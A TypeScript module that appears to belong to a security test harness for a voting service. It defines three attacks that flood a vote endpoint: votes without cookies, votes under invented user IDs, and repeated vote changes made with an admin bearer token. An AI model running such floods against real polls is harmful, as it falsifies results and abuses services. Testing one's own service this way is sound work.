import { randomUUID } from 'node:crypto';
import type { Attack } from '../attack.ts';
import { flood, json } from '../flood.ts';

/** A new voter each time, because no cookie is sent. */
export const votesAsNewVoters: Attack = (attacking) => {
  const { vote, poll, attackersChoice } = attacking.target;
  return flood(attacking, () => [`${vote}/polls/${poll}/vote`, json({ choice: attackersChoice })]);
};

/** A8: another invented user each time. */
export const votesByInventedUsers: Attack = (attacking) => {
  const { vote, poll, attackersChoice } = attacking.target;
  return flood(attacking, () => [
    `${vote}/vote`,
    json({ pollId: poll, optionId: attackersChoice, userId: randomUUID() }),
  ]);
};

/** A2: each option in turn as the same user, in a poll that forbids changes, with the token that votes by `userId` need. */
export const probesOfAVote: Attack = (attacking) => {
  const { vote, finalPoll, adminToken } = attacking.target;
  let count = 0;
  return flood(attacking, () => {
    const { headers, ...sent } = json({ pollId: finalPoll, optionId: count++ % 2, userId: 'the-same-user' });
    return [`${vote}/vote`, { ...sent, headers: { ...headers, authorization: `Bearer ${adminToken}` } }];
  });
};
